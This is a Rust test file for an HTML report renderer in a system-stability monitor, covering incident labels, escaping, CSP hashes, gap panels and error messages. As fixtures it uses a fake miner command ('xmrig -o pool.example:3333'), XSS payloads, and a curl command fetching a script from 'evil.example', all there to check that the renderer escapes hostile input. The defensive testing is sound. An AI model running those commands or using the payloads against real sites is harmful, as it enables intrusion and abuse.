//! The structure of the rendered page: culprit labels for injected incidents, escaping of hostile names in every
//! context, no external URL, the CSP and its hashes, gap panels, determinism, and the errors.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::time::Duration;

use base64::Engine as _;
use sha2::{Digest, Sha256};
use stabmon_core::Timestamp;
use stabmon_core::analysis::IncidentKind;
use stabmon_core::synth::Synth;
use stabmon_report::{Chart, Error, ReportBuilder};

fn start() -> Timestamp {
    Timestamp::from_unix_secs(1_795_564_800 - 3600) // 2026-11-25 00:00 in Berlin
}

fn at(s: u64) -> Timestamp {
    start().saturating_add(Duration::from_secs(s))
}

fn render(samples: &[stabmon_core::Sample]) -> (String, stabmon_report::Summary) {
    ReportBuilder::new().build().render(samples).unwrap()
}

/// The text between `open` and the next `close` after it, for each occurrence.
fn between<'a>(html: &'a str, open: &str, close: &str) -> Vec<&'a str> {
    let mut out = Vec::new();
    let mut rest = html;
    while let Some(i) = rest.find(open) {
        let after = &rest[i + open.len()..];
        let Some(j) = after.find(close) else { break };
        out.push(&after[..j]);
        rest = &after[j + close.len()..];
    }
    out
}

fn hog_series() -> Synth {
    Synth::new(start(), Duration::from_secs(1))
        .count(2 * 3600)
        .host("web-1")
        .cpu_hog(
            "xmrig",
            "./xmrig -o pool.example:3333",
            at(1800),
            at(2400),
            190.0,
        )
}

#[test]
fn injected_hog_is_labelled_with_its_culprit_on_the_cpu_chart_and_in_the_table() {
    let samples = hog_series().generate();
    let pid = samples[2000]
        .top
        .processes
        .iter()
        .find(|p| p.name == "xmrig")
        .map(|p| p.pid)
        .expect("the hog runs at 2000 s");
    let (html, summary) = render(&samples);
    let (i, inc) = summary
        .incidents
        .iter()
        .enumerate()
        .find(|(_, i)| i.kind == IncidentKind::CpuSurge)
        .expect("a CPU surge");
    let label = inc.label();
    assert!(
        label.starts_with(&format!("xmrig (pid {pid}) ")) && label.ends_with("% CPU"),
        "{label}"
    );

    // The label is drawn inside the CPU chart, in the incident's group, with a marker, linking to its table row.
    let cpu_svg = between(
        &html,
        "<svg class=\"chart\" id=\"chart-cpu\"",
        "<figure class=\"fig\" id=\"fig-mem\">",
    );
    assert_eq!(cpu_svg.len(), 1);
    let group = between(
        cpu_svg[0],
        &format!("<g class=\"inc k-cpu\" id=\"inc-{i}\""),
        "</g>",
    );
    assert_eq!(group.len(), 1, "the label group is in the CPU chart");
    assert!(group[0].contains("<circle class=\"mark\""), "{}", group[0]);
    assert!(
        group[0].contains(&format!("<a href=\"#row-{i}\">")),
        "{}",
        group[0]
    );
    let text = between(group[0], "<text class=\"lt\"", "</text>");
    assert_eq!(text.len(), 1);
    assert_eq!(text[0].split_once('>').map(|t| t.1), Some(label.as_str()));
    // And its row names the culprit, pid and command, linking back to the chart.
    let row = between(&html, &format!("<tr id=\"row-{i}\""), "</tr>");
    assert_eq!(row.len(), 1);
    assert!(row[0].contains(&format!("href=\"#inc-{i}\"")), "{}", row[0]);
    assert!(row[0].contains("<b>xmrig</b>"), "{}", row[0]);
    assert!(row[0].contains(&format!("pid {pid}")), "{}", row[0]);
    assert!(
        row[0].contains("<code>./xmrig -o pool.example:3333</code>"),
        "{}",
        row[0]
    );
    // Local time of the host (synth records Europe/Berlin, UTC+01:00): 00:30 local.
    assert!(row[0].contains("2026-11-25 00:30:0"), "{}", row[0]);
    assert!(html.contains("Europe/Berlin (UTC+01:00)"));
    // The hog gets its own line on the CPU chart.
    assert!(html.contains("<i class=\"sw s-p0\"></i>xmrig</span>"));
}

#[test]
fn quiet_series_has_no_labels() {
    let samples = Synth::new(start(), Duration::from_secs(1))
        .count(3600)
        .generate();
    let (html, summary) = render(&samples);
    assert!(summary.incidents.is_empty(), "{:?}", summary.incidents);
    assert!(!html.contains("<g class=\"inc "));
    assert!(html.contains("No incidents found in this range."));
}

#[test]
fn a_live_page_reloads_itself_only_when_asked() {
    let samples = Synth::new(start(), Duration::from_secs(1))
        .count(120)
        .generate();
    let (plain, _) = render(&samples);
    assert!(!plain.contains("http-equiv=\"refresh\""));
    let (live, _) = ReportBuilder::new()
        .refresh(Duration::from_secs(30))
        .build()
        .render(&samples)
        .unwrap();
    // In the head, once, before the CSP (no script: the policy is the same).
    let head = between(&live, "<head>", "</head>")[0];
    assert_eq!(live.matches("http-equiv=\"refresh\"").count(), 1);
    assert!(
        head.contains("<meta http-equiv=\"refresh\" content=\"30\">"),
        "{head}"
    );
    let csp = |h: &str| between(h, "Content-Security-Policy\" content=\"", "\"")[0].to_owned();
    assert_eq!(csp(&live), csp(&plain));
    let (off, _) = ReportBuilder::new()
        .refresh(Duration::ZERO)
        .build()
        .render(&samples)
        .unwrap();
    assert!(!off.contains("http-equiv=\"refresh\""));
}

#[test]
fn warnings_are_a_notice_in_the_header_escaped_and_only_when_given() {
    let samples = Synth::new(start(), Duration::from_secs(1))
        .count(120)
        .generate();
    let (plain, _) = render(&samples);
    assert!(
        !plain.contains("could not be read"),
        "a notice without warnings"
    );
    let (warned, _) = ReportBuilder::new()
        .warnings(["skipped /d/<img src=x onerror=alert(1)>.journal: not a journal"])
        .build()
        .render(&samples)
        .unwrap();
    let header = between(&warned, "<header>", "</header>")[0];
    assert!(
        header.contains(
            "<li>skipped /d/&lt;img src=x onerror=alert(1)&gt;.journal: not a journal</li>"
        ),
        "{header}"
    );
    assert!(!warned.contains("<img"), "unescaped");
    // Nothing else of the page changes.
    let notice = between(&warned, "<div class=\"warnings\"", "</div>")[0];
    let without = warned.replace(&format!("<div class=\"warnings\"{notice}</div>"), "");
    assert_eq!(without, plain);
}

#[test]
fn hostile_names_are_escaped_in_every_context() {
    let script_name = "<script>alert(1)</script>";
    let img_name = "\"><img src=x onerror=alert(1)>";
    let samples = Synth::new(start(), Duration::from_secs(1))
        .count(3600)
        .host("<b>host</b>")
        .cpu_hog(script_name, img_name, at(600), at(900), 190.0)
        .cpu_hog(img_name, script_name, at(2400), at(2700), 190.0)
        .gap(at(3000), at(3100))
        .generate();
    let (html, summary) = ReportBuilder::new()
        .title("</title><script>alert(2)</script>")
        .build()
        .render(&samples)
        .unwrap();
    assert_eq!(
        summary
            .incidents
            .iter()
            .filter(|i| i.culprit.is_some())
            .count(),
        2
    );
    // Nothing from the data appears raw.
    for raw in [
        script_name,
        img_name,
        "<img",
        "<b>host",
        "alert(2)</script>",
    ] {
        assert!(!html.contains(raw), "{raw:?} appears unescaped");
    }
    // Exactly our two script elements and no other markup injected.
    assert_eq!(html.matches("<script").count(), 2);
    assert_eq!(html.matches("</script>").count(), 2);
    let head = between(&html, "<head>", "</head>");
    assert_eq!(head.len(), 1);
    assert_eq!(head[0].matches("<title>").count(), 1);
    assert!(head[0].contains("<title>&lt;/title&gt;&lt;script&gt;alert(2)&lt;/script&gt;</title>"));
    // HTML text (table, labels) and attributes (SVG <title>, the gap panel's title="") hold the escaped text.
    let esc_script = "&lt;script&gt;alert(1)&lt;/script&gt;";
    let esc_img = "&quot;&gt;&lt;img src=x onerror=alert(1)&gt;";
    assert!(html.contains(&format!("<b>{esc_script}</b>")));
    assert!(html.contains(&format!("<code>{esc_img}</code>")));
    assert!(html.matches("<text class=\"lt\"").count() >= 2);
    assert!(
        html.contains(&format!("\">{esc_script} (pid ")),
        "label text"
    );
    assert!(html.contains(&format!("\">{esc_img} (pid ")), "label text");
    assert!(html.contains("&lt;b&gt;host&lt;/b&gt;"));
    // Every onerror= sits inside escaped text: after "&lt;img src=x " or "\u003cimg src=x ".
    for (k, _) in html.match_indices("onerror=") {
        let before = &html[..k];
        assert!(
            before.ends_with("&lt;img src=x ") || before.ends_with("\\u003cimg src=x "),
            "onerror= in an unexpected context: {}",
            &html[k.saturating_sub(40)..k + 20]
        );
    }
    // The JSON for the script cannot end its element, and still holds the names exactly.
    let data = between(
        &html,
        "<script type=\"application/json\" id=\"data\">",
        "</script>",
    );
    assert_eq!(data.len(), 1);
    assert!(!data[0].contains('<') && !data[0].contains('>'));
    let v: serde_json::Value = serde_json::from_str(data[0]).unwrap();
    let names: Vec<&str> = v["procs"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|p| p[0].as_str())
        .collect();
    assert!(
        names.contains(&script_name) && names.contains(&img_name),
        "{names:?}"
    );
}

#[test]
fn no_external_url_and_a_strict_csp_pinning_the_inline_parts() {
    let samples = Synth::new(start(), Duration::from_secs(1))
        .count(3600)
        .cpu_hog(
            "curl",
            "curl https://evil.example/x.sh http://evil.example //evil.example",
            at(600),
            at(900),
            190.0,
        )
        .generate();
    let (html, _) = render(&samples);
    // The only URLs are in the hostile command line, escaped as text in the table and data; none in our markup.
    let ours = html.replace(
        "https://evil.example/x.sh http://evil.example //evil.example",
        "",
    );
    for bad in [
        "http://", "https://", "src=\"", "src='", "url(", "@import", "<link", "<iframe", "<object",
        "<embed",
    ] {
        assert!(!ours.contains(bad), "{bad:?} in the page");
    }
    for (k, _) in ours.match_indices("href=\"") {
        let rest = &ours[k + 6..];
        assert!(
            rest.starts_with('#'),
            "non-anchor href: {}",
            &rest[..rest.len().min(40)]
        );
    }
    // The CSP: nothing by default, only the page's own inline script and style by hash.
    let csp = between(
        &html,
        "<meta http-equiv=\"Content-Security-Policy\" content=\"",
        "\"",
    );
    assert_eq!(csp.len(), 1);
    let csp = csp[0];
    assert!(csp.starts_with("default-src 'none'; "), "{csp}");
    assert!(
        !csp.contains("unsafe-inline") && !csp.contains("unsafe-eval") && !csp.contains('*'),
        "{csp}"
    );
    let hash = |s: &str| {
        format!(
            "'sha256-{}'",
            base64::engine::general_purpose::STANDARD.encode(Sha256::digest(s.as_bytes()))
        )
    };
    let scripts = between(&html, "<script>", "</script>");
    let styles = between(&html, "<style>", "</style>");
    assert_eq!((scripts.len(), styles.len()), (1, 1));
    assert!(
        csp.contains(&format!("script-src {};", hash(scripts[0]))),
        "{csp}"
    );
    assert!(
        csp.contains(&format!("style-src {};", hash(styles[0]))),
        "{csp}"
    );
    // The CSP comes before anything it governs.
    let (m, s) = (
        html.find("Content-Security-Policy").unwrap(),
        html.find("<style>").unwrap(),
    );
    assert!(m < s);
    // No inline event handlers or style attributes, which the CSP would block anyway.
    for bad in [" onclick=", " onload=", " style=\""] {
        assert!(!html.contains(bad), "{bad:?}");
    }
}

#[test]
fn output_is_deterministic_and_order_independent() {
    let samples = hog_series()
        .gap(at(5000), at(5200))
        .reboot(at(5200))
        .generate();
    let (a, _) = render(&samples);
    let (b, _) = render(&samples);
    assert!(a == b, "two renders differ");
    let mut shuffled = samples.clone();
    shuffled.reverse();
    shuffled.swap(10, 3000);
    let (c, _) = render(&shuffled);
    assert!(a == c, "input order changed the output");
}

#[test]
fn gaps_are_banded_on_every_chart_and_explained() {
    let samples = Synth::new(start(), Duration::from_secs(1))
        .count(2 * 3600)
        .memory_leak("leaky", "/opt/leaky --serve", at(1000), at(1300), 40 << 20)
        .gap(at(3000), at(3120))
        .gap(at(5000), at(5300))
        .reboot(at(5300))
        .generate();
    let (html, summary) = render(&samples);
    let kinds: Vec<IncidentKind> = summary.incidents.iter().map(|i| i.kind).collect();
    let gaps: Vec<usize> = kinds
        .iter()
        .enumerate()
        .filter(|(_, k)| matches!(k, IncidentKind::Gap(_)))
        .map(|(i, _)| i)
        .collect();
    assert_eq!(gaps.len(), 2, "{kinds:?}");
    for &g in &gaps {
        // One band per chart.
        assert_eq!(
            html.matches(&format!("data-i=\"{g}\" x=")).count(),
            3,
            "gap {g}"
        );
        let panel = between(&html, &format!("id=\"gap-{g}\">"), "</article>");
        assert_eq!(panel.len(), 1);
        for part in [
            "The last minute before it",
            "Memory used",
            "Swap used",
            "CPU pressure (max)",
            "Memory pressure (max)",
            "IO pressure (max)",
            "OOM kills",
            "Top processes by CPU",
            "Top processes by memory",
        ] {
            assert!(panel[0].contains(part), "gap {g} lacks {part:?}");
        }
    }
    assert!(html.contains("class=\"gap k-died\""));
    assert!(html.contains("class=\"gap k-reboot\""));
    assert!(html.contains("The machine rebooted"));
    assert!(html.contains("The recorder died"));
    // The leak ended in an OOM kill; the counter shows in the panel of no gap (it happened before), but the table
    // has the kill with its victim.
    assert!(kinds.contains(&IncidentKind::OomKill), "{kinds:?}");
    let oom = summary
        .incidents
        .iter()
        .find(|i| i.kind == IncidentKind::OomKill)
        .unwrap();
    assert!(oom.label().contains("leaky"), "{}", oom.label());
}

#[test]
fn range_selects_samples_and_sets_the_axis() {
    let samples = hog_series().generate();
    let (html, summary) = ReportBuilder::new()
        .range(at(1200), at(3000))
        .charts([Chart::Cpu])
        .build()
        .render(&samples)
        .unwrap();
    assert_eq!(summary.samples, 1800);
    assert_eq!((summary.from, summary.to), (at(1200), at(3000)));
    assert!(html.contains("id=\"chart-cpu\"") && !html.contains("id=\"chart-mem\""));
    assert!(html.contains("2026-11-25 00:20:00 to 2026-11-25 00:50:00"));
}

#[test]
fn errors_name_the_range_and_the_data() {
    let samples = hog_series().generate();
    let err = ReportBuilder::new()
        .range(at(100_000), at(200_000))
        .build()
        .render(&samples)
        .unwrap_err();
    assert!(matches!(err, Error::NoSamples { .. }), "{err:?}");
    let msg = err.to_string();
    assert!(
        msg.contains(&at(100_000).to_string()) && msg.contains(&at(200_000).to_string()),
        "{msg}"
    );
    assert!(
        msg.contains(&format!("the data covers {} to {}", at(0), at(7199))),
        "{msg}"
    );

    let err = ReportBuilder::new().build().render(&[]).unwrap_err();
    assert_eq!(err.to_string(), "no samples at all (there is no data)");

    let err = ReportBuilder::new()
        .range(at(10), at(10))
        .build()
        .render(&samples)
        .unwrap_err();
    assert!(matches!(err, Error::InvalidRange { .. }), "{err:?}");

    let mut mixed = samples[..10].to_vec();
    mixed.extend(
        Synth::new(start(), Duration::from_secs(1))
            .count(10)
            .host("db-1")
            .generate(),
    );
    let err = ReportBuilder::new().build().render(&mixed).unwrap_err();
    assert_eq!(
        err.to_string(),
        "the samples come from 2 hosts (db-1, web-1); a report covers one host"
    );

    struct Broken;
    impl std::io::Write for Broken {
        fn write(&mut self, _: &[u8]) -> std::io::Result<usize> {
            Err(std::io::Error::other("disk full"))
        }
        fn flush(&mut self) -> std::io::Result<()> {
            Ok(())
        }
    }
    let err = ReportBuilder::new()
        .build()
        .write_html(&samples, &mut Broken)
        .unwrap_err();
    assert_eq!(err.to_string(), "could not write the report: disk full");
}

#[test]
fn latency_chart_per_target_with_failure_marks_loss_and_labels() {
    let vpn = "vpn<i>\"";
    let samples = Synth::new(start(), Duration::from_secs(1))
        .count(2 * 3600)
        .host("web-1")
        .latency_target("router", 3.0, 0.6)
        .latency_target(vpn, 30.0, 5.0)
        .latency_outage(vpn, at(3000), at(3045))
        .latency_spike("router", at(5000), at(5030), 2000.0)
        .generate();
    let (html, summary) = render(&samples);
    // Both incidents, on their targets; the spike names its size and baseline, the outage its length and loss.
    let spike = summary
        .incidents
        .iter()
        .position(|i| i.kind == IncidentKind::LatencySpike)
        .expect("a latency spike");
    let outage = summary
        .incidents
        .iter()
        .position(|i| i.kind == IncidentKind::LatencyOutage)
        .expect("a latency outage");
    let (sp, ou) = (&summary.incidents[spike], &summary.incidents[outage]);
    assert_eq!(sp.target.as_deref(), Some("router"));
    assert_eq!(ou.target.as_deref(), Some(vpn));
    assert_eq!(sp.start, at(5000));
    assert_eq!(ou.start, at(3000));
    assert!(
        sp.label().starts_with("router: 2.0 s (baseline 3"),
        "{}",
        sp.label()
    );
    assert!(ou.label().starts_with(vpn), "{}", ou.label());

    let lat = between(&html, "<svg class=\"chart\" id=\"chart-lat\"", "</figure>");
    assert_eq!(lat.len(), 1, "one latency chart");
    let lat = lat[0];
    // The labels are drawn on the latency chart, escaped.
    for (i, kind) in [(spike, "k-lat"), (outage, "k-loss")] {
        let group = between(
            lat,
            &format!("<g class=\"inc {kind}\" id=\"inc-{i}\""),
            "</g>",
        );
        assert_eq!(group.len(), 1, "incident {i} on the latency chart");
        let text = between(group[0], "<text class=\"lt\"", "</text>");
        let shown = text[0].split_once('>').map(|t| t.1).unwrap_or_default();
        let want = summary.incidents[i]
            .label()
            .replace('&', "&amp;")
            .replace('<', "&lt;")
            .replace('>', "&gt;")
            .replace('"', "&quot;");
        assert_eq!(shown, want);
    }
    // A log scale: ticks from a millisecond up to seconds.
    let ticks: Vec<&str> = between(lat, "<text class=\"yl\" x=\"56\"", "</text>")
        .into_iter()
        .filter_map(|t| t.split_once('>').map(|x| x.1))
        .collect();
    assert!(
        ticks.contains(&"1 ms") && ticks.contains(&"1 s"),
        "{ticks:?}"
    );

    // Failure marks, one lane per target, sorted by name: `data-n` counts the failed probes of the range.
    let probes: Vec<_> = samples.iter().flat_map(|s| &s.latency).collect();
    let failed = |t: &str| {
        probes
            .iter()
            .filter(|p| p.target == t && !p.outcome.is_ok())
            .count()
    };
    let all = |t: &str| probes.iter().filter(|p| p.target == t).count();
    let lanes = between(lat, "<path class=\"fl\" ", "</path>");
    assert_eq!(lanes.len(), 2);
    assert!(
        lanes[0].starts_with(&format!("data-l=\"0\" data-n=\"{}\"", failed("router"))),
        "{}",
        lanes[0]
    );
    assert!(
        lanes[1].starts_with(&format!("data-l=\"1\" data-n=\"{}\"", failed(vpn))),
        "{}",
        lanes[1]
    );
    assert!(failed(vpn) >= 10, "{}", failed(vpn));
    // Ticks on the vpn lane fall on the outage (and on the few lost probes elsewhere).
    let x = |s: u64| 62.0 + s as f64 / 7199.0 * (1200.0 - 62.0 - 18.0);
    let d = between(lanes[1], "d=\"", "\"")[0];
    let xs: Vec<f64> = d
        .split('M')
        .filter(|m| !m.is_empty())
        .map(|m| m.split(',').next().unwrap().parse().unwrap())
        .collect();
    let in_outage = xs
        .iter()
        .filter(|&&v| v >= x(3000) - 1.0 && v <= x(3045) + 1.0)
        .count();
    assert!(in_outage >= 5, "{xs:?}");
    assert!(xs.len() - in_outage <= failed(vpn) - 10, "{xs:?}");
    // Loss per target in the legend, target names escaped.
    let vpn_html = "vpn&lt;i&gt;&quot;";
    let loss = 100.0 * failed(vpn) as f64 / all(vpn) as f64;
    let want = format!(
        "<b>{vpn_html}</b>: loss {} ({} of {} probes failed), jitter ",
        stabmon_core::human::pct(loss),
        failed(vpn),
        all(vpn)
    );
    assert!(html.contains(&want), "{want}");
    assert!(html.contains("<b>router</b>: loss "));
    assert!(!html.contains("vpn<i>"), "a target name was not escaped");
    // The table names the target of each latency incident.
    let row = between(&html, &format!("<tr id=\"row-{outage}\""), "</tr>")[0];
    assert!(row.contains(&format!("target <b>{vpn_html}</b>")), "{row}");
    // No latency chart without latency data.
    let (plain, _) = render(
        &samples
            .iter()
            .cloned()
            .map(|mut s| {
                s.latency.clear();
                s
            })
            .collect::<Vec<_>>(),
    );
    assert!(!plain.contains("chart-lat"));
}

/// A leak that ends in an OOM kill: `leaky` runs in `leaky.service`; with `kernel` the kernel log named the victim.
fn oom_series(kernel: bool) -> Vec<stabmon_core::Sample> {
    let mut samples = Synth::new(start(), Duration::from_secs(1))
        .count(1800)
        .host("web-1")
        .memory_leak("leaky", "/opt/leaky --serve", at(600), at(900), 40 << 20)
        .generate();
    let mut pid = None;
    for s in &mut samples {
        for p in &mut s.top.processes {
            if p.name == "leaky" {
                p.cgroup = Some("/system.slice/leaky.service".into());
                pid = Some(p.pid);
            }
        }
    }
    let rise = samples
        .windows(2)
        .position(|w| w[1].oom_kill_count > w[0].oom_kill_count)
        .expect("the leak ends in an OOM kill")
        + 1;
    if kernel {
        let ts = samples[rise].ts.saturating_sub(Duration::from_millis(300));
        let mut k = stabmon_core::OomKill::new(ts, pid.unwrap(), "leaky");
        k.anon_rss_bytes = Some(6_152_192 * 1024);
        k.constraint = Some("CONSTRAINT_NONE".into());
        k.cgroup = Some("/system.slice/leaky.service".into());
        samples[rise].oom_kills.push(k);
    }
    samples
}

#[test]
fn an_oom_victim_is_named_in_the_kernels_terms_with_its_unit_or_marked_as_a_guess() {
    let (html, _) = render(&oom_series(true));
    let pid = oom_series(false)
        .iter()
        .flat_map(|s| &s.top.processes)
        .find(|p| p.name == "leaky")
        .map(|p| p.pid)
        .unwrap();
    let label = format!(
        "OOM killed leaky (pid {pid}), 6.3 GB anon RSS, cgroup /system.slice/leaky.service"
    );
    assert!(html.contains(&label), "no kernel label");
    // The incident table names the unit and says the kernel named the victim.
    assert!(html.contains(
        "<span class=\"unit\" title=\"/system.slice/leaky.service\">leaky.service</span>"
    ));
    assert!(html.contains("6.3 GB anon RSS, named by the kernel"));
    // The hover tooltips know each listed process's unit.
    assert!(html.contains(&format!(
        "[\"leaky\",{pid},\"/opt/leaky --serve\",\"leaky.service\"]"
    )));
    let (guess, _) = render(&oom_series(false));
    assert!(!guess.contains("anon RSS"));
    assert!(guess.contains(" RSS (a guess)"));
    assert!(guess.contains("a guess: its memory vanished</span>"));
}
